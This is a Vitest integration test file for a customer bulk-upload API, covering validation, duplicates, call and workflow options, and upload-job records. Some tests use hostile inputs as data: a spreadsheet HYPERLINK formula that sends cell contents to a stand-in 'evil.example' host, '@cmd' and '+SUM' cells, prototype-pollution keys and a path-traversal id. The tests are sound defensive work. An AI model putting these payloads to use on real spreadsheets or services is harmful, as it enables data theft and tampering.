import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { logger } from "@/lib/log";
import { POST as bulkAdd } from "@/app/api/v1/customers/add/bulk/route";
import { POST as addOne } from "@/app/api/v1/customers/add/route";
import { db } from "@/lib/db/client";
import { call } from "@/lib/test/http";
import { expandAcceptedBatches } from "@/lib/calls/calls-test-kit";
import { zoneWithLocalHour } from "@/lib/test/window-zone";
import { createTestCampaign, createTestOrg, deleteTestOrg, type TestOrg } from "@/lib/test/fixtures";
import { countCustomers, createPhoneKeyedCampaign, customersOf, lead, loan, operatorCookie } from "@/lib/test/records";

// POST /api/v1/customers/add/bulk against a real Postgres: every example of the seed
// (seeds/timepay-bulk-add-customers.md) byte for byte, then every rule around it.

let a: TestOrg;
let b: TestOrg;
beforeAll(async () => {
  a = await createTestOrg("bulk-a");
  b = await createTestOrg("bulk-b");
});
afterAll(async () => {
  await deleteTestOrg(a);
  await deleteTestOrg(b);
});

const add = (body: unknown, options: { apiKey?: string; query?: Record<string, string>; headers?: Record<string, string> } = {}) =>
  call(bulkAdd, { apiKey: options.apiKey ?? a.apiKey, body, query: options.query, headers: options.headers });

describe("the seed's examples, byte for byte", () => {
  it("201 All Added Successfully", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), loan(3)] });
    expect(res.status).toBe(201);
    expect(res.text).toBe(
      JSON.stringify({
        success: true,
        message: "Added 3 of 3 records",
        results: { total: 3, valid: 3, invalid: 0, successful: 3, failed: 0, batchesProcessed: 1, errors: [] },
      }),
    );
    expect((await customersOf(campaign.id)).map((c) => c.identifier)).toEqual(["LN1", "LN2", "LN3"]);
  });

  // The seed's 207 shows `id: null` with only phone_number and loan_amount missing. No campaign the API
  // can create has that shape: loan_amount exists only on debt-collection campaigns (emi/edi), where
  // loan_id is required and is the record's id, so a record without an id also misses loan_id. The
  // nearest real case, byte for byte: the same record without its loan_id, on an emi campaign.
  it("207 Partial Success (the record has no loan_id, so its id is null)", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const { loan_id: _id, phone_number: _phone, loan_amount: _amount, ...third } = loan(3);
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), third] });
    expect(res.status).toBe(207);
    expect(res.text).toBe(
      JSON.stringify({
        success: false,
        message: "Added 2 of 3 records",
        results: {
          total: 3,
          valid: 2,
          invalid: 1,
          successful: 2,
          failed: 1,
          batchesProcessed: 1,
          errors: [],
          invalidRecords: [
            {
              index: 2,
              id: null,
              errors: [
                "Record 2: Missing required field 'loan_id'",
                "Record 2: Missing required field 'phone_number'",
                "Record 2: Missing required field 'loan_amount'",
              ],
            },
          ],
        },
      }),
    );
    expect((await customersOf(campaign.id)).map((c) => c.identifier)).toEqual(["LN1", "LN2"]);
  });

  it("207 on a debt-collection campaign names the record by its loan_id", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const { phone_number: _phone, loan_amount: _amount, ...third } = loan(3);
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), third] });
    expect(res.status).toBe(207);
    expect(res.json.results.invalidRecords).toEqual([
      {
        index: 2,
        id: "LN3",
        errors: ["Record 2: Missing required field 'phone_number'", "Record 2: Missing required field 'loan_amount'"],
      },
    ]);
  });

  it("400 Validation Error", async () => {
    const res = await add({ records: [loan(1)] });
    expect(res.status).toBe(400);
    expect(res.text).toBe(
      JSON.stringify({ success: false, message: "Validation failed", errors: ["campaignId is required and must be a string"] }),
    );
  });

  it("400 No Valid Records", async () => {
    const campaign = await createTestCampaign(a.id, "lead");
    const res = await add({ campaignId: campaign.id, records: [{ last_name: "Iyer", lead_date: "2025-01-10" }] });
    expect(res.status).toBe(400);
    expect(res.text).toBe(
      JSON.stringify({
        success: false,
        message: "No valid records to add",
        invalidRecords: [
          {
            index: 0,
            id: null,
            errors: ["Record 0: Missing required field 'first_name'", "Record 0: Missing required field 'phone_number'"],
          },
        ],
      }),
    );
    expect(await countCustomers(campaign.id)).toBe(0);
  });

  it("404 Campaign Not Found", async () => {
    const res = await add({ campaignId: "camp_0000000000000000", records: [loan(1)] });
    expect(res.status).toBe(404);
    expect(res.text).toBe(JSON.stringify({ success: false, message: "Campaign not found" }));
  });

  it("403 Forbidden for another organization's campaign, which is left untouched", async () => {
    const theirs = await createTestCampaign(b.id, "emi");
    const res = await add({ campaignId: theirs.id, records: [loan(1)] });
    expect(res.status).toBe(403);
    expect(res.text).toBe(JSON.stringify({ success: false, message: "Campaign ID invalid or mismatch for your organization." }));
    expect(await countCustomers(theirs.id)).toBe(0);
    expect(await db.uploadJob.count({ where: { campaignId: theirs.id } })).toBe(0);
  });

  it("500 Server Error, without internals, when a campaign's stored field schema is corrupt", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    await db.campaign.update({ where: { id: campaign.id }, data: { fieldSchema: { fields: "not a list" } } });
    const logged = vi.spyOn(logger, "error");
    const res = await add({ campaignId: campaign.id, records: [loan(1)] });
    expect(logged).toHaveBeenCalledOnce();
    logged.mockRestore();
    expect(res.status).toBe(500);
    expect(res.text).toBe(JSON.stringify({ success: false, error: "Internal Server Error", message: "An unexpected error occurred" }));
    expect(await countCustomers(campaign.id)).toBe(0);
  });
});

describe("request body checks: 400, nothing written", () => {
  it("names every problem of the envelope", async () => {
    const cases: [unknown, string[]][] = [
      [{ campaignId: 42, records: [loan(1)] }, ["campaignId is required and must be a string"]],
      [{ campaignId: "  ", records: [loan(1)] }, ["campaignId is required and must be a string"]],
      [
        { campaignId: "camp x/../y", records: [loan(1)] },
        ["campaignId must be a campaign id (letters, digits, _ and -, at most 64 characters)"],
      ],
      [{ campaignId: "camp_1" }, ["records is required and must be an array of records"]],
      [{ campaignId: "camp_1", records: { 0: loan(1) } }, ["records is required and must be an array of records"]],
      [{ campaignId: "camp_1", records: "LN1" }, ["records is required and must be an array of records"]],
      [{ campaignId: "camp_1", records: null }, ["records is required and must be an array of records"]],
      [{ campaignId: "camp_1", records: [] }, ["records must contain at least 1 record"]],
      [{}, ["campaignId is required and must be a string", "records is required and must be an array of records"]],
      [{ campaignId: "camp_1", records: [loan(1)], initiateCall: "yes" }, ["initiateCall must be true or false"]],
      [{ campaignId: "camp_1", records: [loan(1)], validateOnly: "true" }, ["validateOnly must be true or false"]],
    ];
    for (const [body, errors] of cases) {
      const res = await add(body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.json, JSON.stringify(body)).toEqual({ success: false, message: "Validation failed", errors });
    }
    const array = await add([loan(1)]);
    expect(array.json).toEqual({ success: false, message: "Validation failed", errors: ["Request body must be a JSON object"] });
  });

  it("refuses 10,001 records as a whole and accepts exactly 10,000 (see bulk-add-volume.test.ts)", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const records = Array.from({ length: 10_001 }, (_, i) => loan(i));
    const res = await add({ campaignId: campaign.id, records });
    expect(res.status).toBe(400);
    expect(res.json).toEqual({
      success: false,
      message: "Validation failed",
      errors: ["records must contain at most 10,000 records per request"],
    });
    expect(await countCustomers(campaign.id)).toBe(0);
    expect(await db.uploadJob.count({ where: { campaignId: campaign.id } })).toBe(0);
  });

  it("401 without a credential, 415 for another content type, 400 for malformed JSON", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const anonymous = await call(bulkAdd, { body: { campaignId: campaign.id, records: [loan(1)] } });
    expect(anonymous.status).toBe(401);
    expect(anonymous.json).toEqual({ success: false, error: "Unauthorized", message: "Missing or invalid authorization header" });
    const text = await add(JSON.stringify({ campaignId: campaign.id, records: [loan(1)] }), { headers: { "content-type": "text/plain" } });
    expect(text.status).toBe(415);
    const malformed = await add('{"campaignId": "x", "records": [');
    expect(malformed.status).toBe(400);
    expect(malformed.json.message).toMatch(/^Malformed JSON/);
    expect(await countCustomers(campaign.id)).toBe(0);
  });
});

describe("records of the wrong shape or type fail alone", () => {
  it("reports non-objects and wrong types per record and adds the rest", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const records = [
      loan(1),
      null,
      7,
      ["LN9"],
      loan(2, { loan_amount: "abc", loan_period: 2.5, emi_due_date: "2025-02-30" }),
      loan(3, { payment_status: "maybe" }),
    ];
    const res = await add({ campaignId: campaign.id, records });
    expect(res.status).toBe(207);
    expect(res.json.results).toMatchObject({ total: 6, valid: 1, invalid: 5, successful: 1, failed: 5, errors: [] });
    expect(res.json.results.invalidRecords).toEqual([
      { index: 1, id: null, errors: ["Record 1: must be an object"] },
      { index: 2, id: null, errors: ["Record 2: must be an object"] },
      { index: 3, id: null, errors: ["Record 3: must be an object"] },
      {
        index: 4,
        id: "LN2",
        errors: [
          "Record 4: Field 'loan_amount' must be a number",
          "Record 4: Field 'loan_period' must be a whole number",
          "Record 4: Field 'emi_due_date' must be a real date in YYYY-MM-DD format",
        ],
      },
      { index: 5, id: "LN3", errors: ["Record 5: Field 'payment_status' must be one of bounced, pending, partial, paid, received"] },
    ]);
    expect(await countCustomers(campaign.id)).toBe(1);
  });
});

describe("initiateCall, callConfig and useWorkflow", () => {
  it("400 when callConfig is missing, incomplete, or both flags are set", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const base = { campaignId: campaign.id, records: [loan(1)] };
    const cases: [Record<string, unknown>, string[]][] = [
      [{ initiateCall: true }, ["callConfig is required when initiateCall is true"]],
      [{ initiateCall: true, callConfig: "agent-1" }, ["callConfig must be an object with agentId and dispositionId"]],
      [{ initiateCall: true, callConfig: { dispositionId: a.disposition.id } }, ["callConfig.agentId is required and must be a string"]],
      [
        { initiateCall: true, callConfig: { agentId: a.agent.id, dispositionId: 5 } },
        ["callConfig.dispositionId is required and must be a string"],
      ],
      [
        { initiateCall: true, useWorkflow: true, callConfig: { agentId: a.agent.id, dispositionId: a.disposition.id } },
        ["initiateCall and useWorkflow cannot both be true"],
      ],
    ];
    for (const [extra, errors] of cases) {
      const res = await add({ ...base, ...extra });
      expect(res.status, JSON.stringify(extra)).toBe(400);
      expect(res.json).toEqual({ success: false, message: "Validation failed", errors });
    }
    expect(await countCustomers(campaign.id)).toBe(0);
  });

  it("400 naming the agent and the disposition that are not the organization's", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({
      campaignId: campaign.id,
      records: [loan(1)],
      initiateCall: true,
      callConfig: { agentId: b.agent.id, dispositionId: b.disposition.id },
    });
    expect(res.status).toBe(400);
    expect(res.json).toEqual({
      success: false,
      message: "Validation failed",
      errors: [
        "callConfig.agentId does not match an agent of your organization",
        "callConfig.dispositionId does not match a disposition of your organization",
      ],
    });
    const agentOnly = await add({
      campaignId: campaign.id,
      records: [loan(1)],
      initiateCall: true,
      callConfig: { agentId: "nope", dispositionId: a.disposition.id },
    });
    expect(agentOnly.json.errors).toEqual(["callConfig.agentId does not match an agent of your organization"]);
    expect(await countCustomers(campaign.id)).toBe(0);
  });

  it("201 All Added with Calls: the seed's example byte for byte, the request recorded on the upload job (more in bulk-add-calls.test.ts)", async () => {
    const campaign = await createTestCampaign(a.id, "emi", { timezone: zoneWithLocalHour(12) });
    const callConfig = { agentId: a.agent.id, dispositionId: a.disposition.id };
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), loan(3)], initiateCall: true, callConfig });
    expect(res.status).toBe(201);
    expect(res.text).toBe(
      JSON.stringify({
        success: true,
        message: "Added 3 of 3 records | Calls initiated for 3 customers",
        results: { total: 3, valid: 3, invalid: 0, successful: 3, failed: 0, batchesProcessed: 1, errors: [] },
        callResults: { totalRequested: 3, initiated: 3, failed: 0, errors: [] },
      }),
    );
    const job = await db.uploadJob.findUniqueOrThrow({ where: { id: res.headers.get("x-upload-job-id")! } });
    expect(job.options).toEqual({ initiateCall: true, callConfig, useWorkflow: false });
    // The attempts are written after the answer (the calls-expand worker's code).
    expect(await expandAcceptedBatches(campaign.id)).toBe(1);
    expect(await db.call.count({ where: { campaignId: campaign.id, state: "scheduled" } })).toBe(3);
  });

  it("useWorkflow needs a campaign with a workflow that has steps", async () => {
    const plain = await createTestCampaign(a.id, "emi");
    const refused = await add({ campaignId: plain.id, records: [loan(1)], useWorkflow: true });
    expect(refused.status).toBe(400);
    expect(refused.json.errors).toEqual(["useWorkflow requires a campaign with a workflow (set workflowId on the campaign)"]);

    const stub = await db.workflow.create({ data: { organizationId: a.id, name: `Stub ${a.suffix}` } });
    const campaign = await createTestCampaign(a.id, "emi", { workflowId: stub.id });
    const empty = await add({ campaignId: campaign.id, records: [loan(1)], useWorkflow: true });
    expect(empty.status).toBe(400);
    expect(empty.json.errors).toEqual([`useWorkflow: the campaign's workflow ${stub.id} has no steps to run (save a definition first)`]);
    expect(await countCustomers(campaign.id)).toBe(0);
  });
});

describe("useWorkflow: runs written with the customers", () => {
  it("201 All Added with Workflow, byte for byte; one run per added customer; validateOnly counts the runs", async () => {
    const { createWorkflow } = await import("@/lib/workflows/workflows");
    const ctx = { organizationId: a.id, actor: { userId: null, apiKeyId: null, role: "admin" as const }, source: "system" as const };
    const workflow = await createWorkflow(ctx, {
      name: `Follow-up ${a.suffix}`,
      definition: { steps: [{ id: "c", type: "call", agentId: a.agent.id }] },
    });
    const campaign = await createTestCampaign(a.id, "emi", { workflowId: workflow.id });
    const preflight = await add(
      { campaignId: campaign.id, records: [loan(1), loan(2)], useWorkflow: true },
      { query: { validateOnly: "true" } },
    );
    expect(preflight.json).toMatchObject({ validateOnly: true, workflowRunsWouldStart: 2 });
    expect(await db.workflowRun.count({ where: { campaignId: campaign.id } })).toBe(0);

    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), loan(3)], useWorkflow: true });
    expect(res.status).toBe(201);
    expect(res.text).toBe(
      JSON.stringify({
        success: true,
        message: "Added 3 of 3 records | Workflow triggered for 3 customers",
        results: { total: 3, valid: 3, invalid: 0, successful: 3, failed: 0, batchesProcessed: 1, errors: [] },
        workflowTriggered: true,
      }),
    );
    const runs = await db.workflowRun.findMany({ where: { campaignId: campaign.id }, include: { customer: true } });
    expect(runs.map((r) => [r.customer!.identifier, r.state, r.stepId, r.stepSeq]).sort()).toEqual([
      ["LN1", "active", "c", 0],
      ["LN2", "active", "c", 0],
      ["LN3", "active", "c", 0],
    ]);

    const again = await add({ campaignId: campaign.id, records: [loan(3), loan(4)], useWorkflow: true });
    expect(again.json.message).toBe("Added 1 of 2 records | Workflow triggered for 1 customers");
    expect(await db.workflowRun.count({ where: { campaignId: campaign.id } })).toBe(4);

    const single = await call(addOne, { apiKey: a.apiKey, body: { campaignId: campaign.id, data: loan(5), useWorkflow: true } });
    expect(single.status).toBe(201);
    expect(single.json).toMatchObject({ success: true, workflowTriggered: true });
    expect(await db.workflowRun.count({ where: { campaignId: campaign.id } })).toBe(5);
  });
});

describe("duplicates: first wins, never an overwrite, never a 500", () => {
  it("reports a repeated loan_id in the request with its index and keeps the first", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), loan(1, { first_name: "Second" })] });
    expect(res.status).toBe(207);
    expect(res.json.results).toEqual({
      total: 3,
      valid: 3,
      invalid: 0,
      successful: 2,
      failed: 1,
      batchesProcessed: 1,
      errors: [
        { id: "LN1", error: "DUPLICATE_IN_REQUEST", reason: "Duplicate loan_id 'LN1' in request (first seen at record 0)", index: 2 },
      ],
    });
    const stored = await customersOf(campaign.id);
    expect(stored.map((c) => [c.identifier, c.firstName])).toEqual([
      ["LN1", "Rahul"],
      ["LN2", "Rahul"],
    ]);
  });

  it("reports a loan_id the campaign already holds as DUPLICATE and leaves the stored customer as it was", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    expect((await add({ campaignId: campaign.id, records: [loan(1)] })).status).toBe(201);
    const res = await add({ campaignId: campaign.id, records: [loan(1, { first_name: "Overwrite", loan_amount: 1 }), loan(2)] });
    expect(res.status).toBe(207);
    expect(res.json).toEqual({
      success: false,
      message: "Added 1 of 2 records",
      results: {
        total: 2,
        valid: 2,
        invalid: 0,
        successful: 1,
        failed: 1,
        batchesProcessed: 1,
        errors: [{ id: "LN1", error: "DUPLICATE", reason: "loan_id 'LN1' already exists in this campaign", index: 0 }],
      },
    });
    const first = await db.customer.findFirstOrThrow({ where: { campaignId: campaign.id, identifier: "LN1" } });
    expect(first.firstName).toBe("Rahul");
    expect((first.data as Record<string, unknown>).loan_amount).toBe(50000);
  });

  it("400 'Added 0 of N records' with the full results when every valid record is a duplicate", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    await add({ campaignId: campaign.id, records: [loan(1), loan(2)] });
    const res = await add({ campaignId: campaign.id, records: [loan(1), loan(2), loan(2), { loan_id: "X" }] });
    expect(res.status).toBe(400);
    expect(res.json.success).toBe(false);
    expect(res.json.message).toBe("Added 0 of 4 records");
    const { results } = res.json;
    expect(results).toMatchObject({ total: 4, valid: 3, invalid: 1, successful: 0, failed: 4, batchesProcessed: 1 });
    expect(results.errors.map((e: { index: number; error: string }) => [e.index, e.error])).toEqual([
      [0, "DUPLICATE"],
      [1, "DUPLICATE"],
      [2, "DUPLICATE_IN_REQUEST"],
    ]);
    expect(results.invalidRecords).toHaveLength(1);
    expect(results.total).toBe(results.successful + results.failed);
    expect(results.failed).toBe(results.invalid + results.errors.length);
    expect(await countCustomers(campaign.id)).toBe(2);
  });

  it("keys a phone-keyed campaign by the E.164 number: one contact per phone, however it is written", async () => {
    const campaign = await createPhoneKeyedCampaign(a.id);
    const records = [
      { numeric: "9876543210", "customer_info:amount": 1 },
      { numeric: "+91 98765 43210", "customer_info:amount": 2 },
    ];
    const res = await add({ campaignId: campaign.id, records });
    expect(res.status).toBe(207);
    expect(res.json.results.errors).toEqual([
      {
        id: "+919876543210",
        error: "DUPLICATE_IN_REQUEST",
        reason: "Duplicate numeric '+919876543210' in request (first seen at record 0)",
        index: 1,
      },
    ]);
    const again = await add({ campaignId: campaign.id, records: [{ numeric: "09876543210", "customer_info:amount": 3 }] });
    expect(again.status).toBe(400);
    expect(again.json.results.errors).toEqual([
      { id: "+919876543210", error: "DUPLICATE", reason: "numeric '+919876543210' already exists in this campaign", index: 0 },
    ]);
  });
});

describe("what is stored", () => {
  it("keeps the phone as entered and as E.164, names and language in columns, the rest in data", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({
      campaignId: campaign.id,
      records: [loan(1, { phone_number: "+91 98765-43210", language: "TAMIL", loan_amount: "1,25,000.50", last_contacted: "2025-01-02" })],
    });
    expect(res.status).toBe(201);
    const [customer] = await customersOf(campaign.id);
    expect(customer).toMatchObject({
      identifier: "LN1",
      phoneRaw: "+91 98765-43210",
      phoneE164: "+919876543210",
      firstName: "Rahul",
      lastName: "Sharma",
      language: "tamil",
      assignedTo: null,
      status: "new",
      uploadJobId: res.headers.get("x-upload-job-id"),
    });
    expect(customer.data).toEqual({
      loan_amount: 125000.5,
      emi_amount: 2500,
      loan_period: 12,
      current_emi: 5,
      emi_due_date: "2025-03-15",
      payment_status: "pending",
      last_contacted: "2025-01-02",
    });
  });

  it("stores Devanagari and Tamil names and formula-looking cells exactly as sent", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const formula = '=HYPERLINK("http://evil.example/?q="&A1,"Pay now")';
    const records = [
      loan(1, { first_name: "राहुल", last_name: "शर्मा" }),
      loan(2, { first_name: "முருகன்", last_name: "சுப்பிரமணியம்" }),
      loan(3, { first_name: formula, remarks: "+SUM(A1:A9)", last_name: "@cmd" }),
    ];
    expect((await add({ campaignId: campaign.id, records })).status).toBe(201);
    const stored = await customersOf(campaign.id);
    expect(stored.map((c) => [c.firstName, c.lastName])).toEqual([
      ["राहुल", "शर्मा"],
      ["முருகன்", "சுப்பிரமணியம்"],
      [formula, "@cmd"],
    ]);
    expect((stored[2].data as Record<string, unknown>).remarks).toBe("+SUM(A1:A9)");
  });

  it("refuses __proto__ and constructor keys in the record alone, and pollutes nothing", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const body = `{"campaignId":"${campaign.id}","records":[${JSON.stringify(loan(1))},${JSON.stringify(loan(2)).replace("{", '{"__proto__":{"polluted":true},')},${JSON.stringify(loan(3)).replace("{", '{"constructor":{"prototype":{"polluted":true}},')}]}`;
    const res = await add(body);
    expect(res.status).toBe(207);
    expect(res.json.results.invalidRecords).toEqual([
      { index: 1, id: "LN2", errors: ["Record 1: Field '__proto__' is not allowed"] },
      { index: 2, id: "LN3", errors: ["Record 2: Field 'constructor' is not allowed"] },
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(await countCustomers(campaign.id)).toBe(1);
  });

  it("generates a UUID lead_id for leads that have none", async () => {
    const campaign = await createTestCampaign(a.id, "lead");
    const res = await add({ campaignId: campaign.id, records: [lead(1), lead(2, { lead_id: "LEAD-2" })] });
    expect(res.status).toBe(201);
    const stored = await customersOf(campaign.id);
    expect(stored.map((c) => c.phoneE164).sort()).toEqual(["+919700000001", "+919700000002"]);
    expect(stored.find((c) => c.phoneE164 === "+919700000002")!.identifier).toBe("LEAD-2");
    expect(stored.find((c) => c.phoneE164 === "+919700000001")!.identifier).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
  });

  it("reports spreadsheet damage as a warning on a record it could still read", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({ campaignId: campaign.id, records: [loan(1, { phone_number: "9876543210.0" })] });
    expect(res.status).toBe(201);
    expect(res.json.results.warnings).toEqual([
      "Record 0: phone_number '9876543210.0' had a trailing '.0' from a spreadsheet number; read as 9876543210",
    ]);
  });
});

describe("upload jobs", () => {
  it("records an API upload as timepay_api, completed, with counts and row errors; ignores source and fileName", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({
      campaignId: campaign.id,
      records: [loan(1), loan(1), { loan_id: "BAD" }],
      source: "ui",
      fileName: "spoofed.csv",
    });
    expect(res.status).toBe(207);
    expect(res.json.uploadJobId).toBeUndefined();
    const job = await db.uploadJob.findUniqueOrThrow({ where: { id: res.headers.get("x-upload-job-id")! } });
    expect(job).toMatchObject({
      organizationId: a.id,
      campaignId: campaign.id,
      source: "timepay_api",
      action: "insert",
      status: "completed",
      fileName: null,
      total: 3,
      processed: 3,
      valid: 2,
      invalid: 1,
      successful: 1,
      failed: 2,
      duplicates: 1,
      payload: null,
      createdById: null,
    });
    expect(job.apiKeyId).toBeTruthy();
    expect(job.completedAt).toBeInstanceOf(Date);
    expect(job.rowErrors).toEqual([
      { index: 1, id: "LN1", errors: ["Duplicate loan_id 'LN1' in request (first seen at record 0)"], kind: "duplicate", row: loan(1) },
      {
        index: 2,
        id: "BAD",
        errors: expect.arrayContaining(["Record 2: Missing required field 'first_name'"]),
        kind: "invalid",
        row: { loan_id: "BAD" },
      },
    ]);
  });

  it("a signed-in operator's request is TimePay's too: no wizard fields, a job of the API's door", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const { cookie, userId } = await operatorCookie(a.id);
    const res = await call(bulkAdd, {
      headers: { cookie },
      body: { campaignId: campaign.id, records: [loan(1)], source: "ui", fileName: "november.xlsx" },
    });
    expect(res.status).toBe(201);
    expect(res.json.uploadJobId).toBeUndefined();
    const job = await db.uploadJob.findUniqueOrThrow({ where: { id: res.headers.get("x-upload-job-id")! } });
    expect(job).toMatchObject({
      source: "timepay_api",
      fileName: null,
      createdById: userId,
      apiKeyId: null,
      successful: 1,
      status: "completed",
    });
  });

  it("records an upload that had no valid record too", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const res = await add({ campaignId: campaign.id, records: [{ loan_id: "X" }] });
    expect(res.status).toBe(400);
    const job = await db.uploadJob.findUniqueOrThrow({ where: { id: res.headers.get("x-upload-job-id")! } });
    expect(job).toMatchObject({ status: "completed", total: 1, valid: 0, invalid: 1, successful: 0, failed: 1 });
  });
});

describe("validate-only", () => {
  it("runs every check, including duplicates against the campaign, and writes nothing", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    await add({ campaignId: campaign.id, records: [loan(1)] });
    const jobsBefore = await db.uploadJob.count({ where: { campaignId: campaign.id } });
    const records = [loan(1), loan(2), loan(2), loan(3, { phone_number: "123" })];
    const res = await add({ campaignId: campaign.id, records }, { query: { validateOnly: "true" } });
    expect(res.status).toBe(200);
    expect(res.headers.get("x-upload-job-id")).toBeNull();
    expect(res.json).toEqual({
      success: false,
      validateOnly: true,
      message: "Validated 4 records: 1 of 4 would be added",
      results: {
        total: 4,
        valid: 3,
        invalid: 1,
        successful: 1,
        failed: 3,
        batchesProcessed: 0,
        errors: [
          { id: "LN1", error: "DUPLICATE", reason: "loan_id 'LN1' already exists in this campaign", index: 0 },
          { id: "LN2", error: "DUPLICATE_IN_REQUEST", reason: "Duplicate loan_id 'LN2' in request (first seen at record 1)", index: 2 },
        ],
        invalidRecords: [{ index: 3, id: "LN3", errors: ["Record 3: Invalid phone_number '123': too short"] }],
      },
    });
    expect(await countCustomers(campaign.id)).toBe(1);
    expect(await db.uploadJob.count({ where: { campaignId: campaign.id } })).toBe(jobsBefore);
  });

  it("accepts validateOnly in the body, answers 200 even when nothing would be added, and refuses a bad flag", async () => {
    const campaign = await createTestCampaign(a.id, "emi");
    const ok = await add({ campaignId: campaign.id, records: [loan(1), loan(2)], validateOnly: true });
    expect(ok.status).toBe(200);
    expect(ok.json).toMatchObject({ success: true, validateOnly: true, message: "Validated 2 records: 2 of 2 would be added" });
    const none = await add({ campaignId: campaign.id, records: [{}] }, { query: { validateOnly: "1" } });
    expect(none.status).toBe(200);
    expect(none.json.results).toMatchObject({ total: 1, valid: 0, invalid: 1, successful: 0, failed: 1 });
    const bad = await add({ campaignId: campaign.id, records: [loan(1)] }, { query: { validateOnly: "maybe" } });
    expect(bad.status).toBe(400);
    expect(bad.json.errors).toEqual(["validateOnly must be true or false"]);
    expect(await countCustomers(campaign.id)).toBe(0);
  });

  it("still answers 404 and 403 for the campaign", async () => {
    const theirs = await createTestCampaign(b.id, "emi");
    expect((await add({ campaignId: theirs.id, records: [loan(1)] }, { query: { validateOnly: "true" } })).status).toBe(403);
    expect((await add({ campaignId: "camp_missing", records: [loan(1)], validateOnly: true })).status).toBe(404);
  });
});

describe("a batch the database refuses", () => {
  it("costs only the offending row; the response still equals what the table holds", async () => {
    await db.$executeRawUnsafe(
      `CREATE OR REPLACE FUNCTION test_refuse_poison() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'poison row'; END $$ LANGUAGE plpgsql`,
    );
    await db.$executeRawUnsafe(
      `CREATE OR REPLACE TRIGGER test_refuse_poison BEFORE INSERT ON customers FOR EACH ROW WHEN (NEW.identifier LIKE 'POISON-${a.suffix}%') EXECUTE FUNCTION test_refuse_poison()`,
    );
    try {
      const campaign = await createTestCampaign(a.id, "emi");
      const records = Array.from({ length: 2500 }, (_, i) => loan(i, i === 1700 ? { loan_id: `POISON-${a.suffix}` } : {}));
      const logged = vi.spyOn(logger, "error");
      const res = await add({ campaignId: campaign.id, records });
      expect(logged).toHaveBeenCalledOnce(); // the lone poison row, once isolated
      logged.mockRestore();
      expect(res.status).toBe(207);
      expect(res.json.results).toMatchObject({ total: 2500, valid: 2500, invalid: 0, successful: 2499, failed: 1, batchesProcessed: 3 });
      expect(res.json.results.errors).toEqual([
        {
          id: `POISON-${a.suffix}`,
          error: "WRITE_FAILED",
          reason: "The database refused this record and nothing of it was saved; send it again",
          index: 1700,
        },
      ]);
      expect(await countCustomers(campaign.id)).toBe(2499);
      const job = await db.uploadJob.findUniqueOrThrow({ where: { id: res.headers.get("x-upload-job-id")! } });
      expect(job).toMatchObject({ successful: 2499, failed: 1, duplicates: 0 });
    } finally {
      await db.$executeRawUnsafe(`DROP TRIGGER IF EXISTS test_refuse_poison ON customers`);
      await db.$executeRawUnsafe(`DROP FUNCTION IF EXISTS test_refuse_poison()`);
    }
  });
});
